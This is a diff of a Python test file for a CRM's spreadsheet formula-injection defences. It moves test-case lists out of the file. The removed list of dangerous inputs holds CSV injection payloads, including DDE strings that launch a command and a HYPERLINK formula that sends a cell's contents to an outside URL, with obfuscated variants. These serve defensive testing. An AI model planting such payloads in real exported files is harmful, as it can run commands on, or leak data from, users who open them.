@@ -6,52 +6,11 @@ import io
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
+from spreadsheet_cases import DANGEROUS, PLAIN
 
 from skycrm.domain.spreadsheet_files import change_csv
 from skycrm.domain.spreadsheet_safety import neutralise, restore
 
-DANGEROUS = [
-	"=1+1",
-	"=cmd|' /C calc'!A0",
-	'=HYPERLINK("https://example.com/?x="&A1,"Bấm đây")',
-	"+1+cmd|' /C calc'!A0",
-	"-2+3+cmd|' /C calc'!A0",
-	"@SUM(1+1)*cmd|' /C calc'!A0",
-	"\t=1+1",
-	"\r=1+1",
-	"\n=1+1",
-	"\x00=1+1",
-	" =1+1",
-	"\ufeff=1+1",
-	"\u200b@SUM(A1)",
-	"＝1+1",
-	"＠SUM(A1)",
-	"- gọi lại sau",
-	"-",
-	"@an",
-	"+84 gọi an",
-	"-1+1",
-]
-PLAIN = [
-	"",
-	"'",
-	"Nguyễn Văn An",
-	"'tis",
-	"0912345678",
-	"+84 912 345 678",
-	"+84912345678",
-	"+49 170 1234567",
-	"+49 (0)170-1234567",
-	"(+84) 28 3822 1234",
-	"-5",
-	"-1.234.567,50",
-	"-1,234,567.50",
-	"+12,5%",
-	"-3.2e-5",
-	"an@example.com",
-	"1=1",
-	"Công ty A + B",
-]
 any_text = st.text(alphabet=st.one_of(st.sampled_from("'=+-@\t\r\n\x00 09.,;\"<&>aĐ＝"), st.characters()))
 
 
